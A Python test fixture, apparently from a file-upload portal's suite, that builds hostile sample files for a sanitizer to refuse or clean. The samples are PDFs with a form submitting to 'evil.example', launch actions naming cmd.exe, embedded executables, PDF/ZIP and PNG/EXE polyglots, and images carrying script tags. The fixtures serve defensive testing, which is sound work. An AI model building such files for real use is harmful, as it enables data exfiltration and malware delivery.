"""The hostile corpus: files that mean harm, each with the answer it must get. They are built when asked for.

`REFUSED` never reach the shelf; `CLEANED` do, and their copy holds nothing of what made them hostile.
"""

from collections.abc import Callable
from pathlib import Path

from pikepdf import Array, Dictionary, Name, String

from tests.portal.lib import evil
from tests.portal.lib.hostile_file import Hostile, written
from tests.portal.lib.hostile_office import OFFICE
from tests.portal.lib.hostile_pdf import PDFS
from tests.portal.lib.hostile_pictures import DOTS, NEITHER, PICTURES, chunk, png

REFUSED = [*PDFS, *OFFICE, *PICTURES, *NEITHER]


def two_in_one(first: Callable[[Path], Path], more: bytes) -> Callable[[Path], Path]:
    """A harmless file with another behind it."""

    def build(path: Path) -> Path:
        path.write_bytes(first(path).read_bytes() + more)
        return path

    return build


def submitting(path: Path) -> Path:
    pdf = evil.blank()
    send = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))
    button = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("b"), Rect=Array([0, 0, 9, 9]), A=send
        )
    )
    pdf.pages[0].obj.Annots = Array([button])
    pdf.Root.AcroForm = Dictionary(Fields=Array([button]))
    return evil.saved(pdf, path)


def playing(path: Path) -> Path:
    pdf = evil.blank()
    pdf.pages[0].obj.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.RichMedia,
                Rect=Array([0, 0, 9, 9]),
                Contents=String("evilmedia"),
            )
        ]
    )
    return evil.saved(pdf, path)


CLEANED = [
    Hostile("scripts", evil.opening_script, "alert"),
    Hostile("programs to launch", evil.launching, "cmd.exe"),
    Hostile("a program inside", evil.embedding, "MZ this would"),
    Hostile("a form of the old kind", evil.forms_of_old, "<xdp"),
    Hostile("a form that sends itself", submitting, "evil.example"),
    Hostile("a film of another program", playing, "evilmedia"),
    Hostile(
        "a PDF that is a packed file too",
        two_in_one(lambda p: evil.saved(evil.blank(), p), b"PK\x03\x04evil.exe"),
        "evil.exe",
    ),
    Hostile("a JPEG that is a page of the web too", evil.photograph, "<script>"),
    Hostile("a PNG that is a program too", written(png(DOTS) + b"MZ evil.exe"), "evil.exe"),
    Hostile(
        "a PNG with a script in its words",
        written(png(chunk(b"tEXt", b"a\x00<script>evil</script>"), DOTS)),
        "<script>",
    ),
]
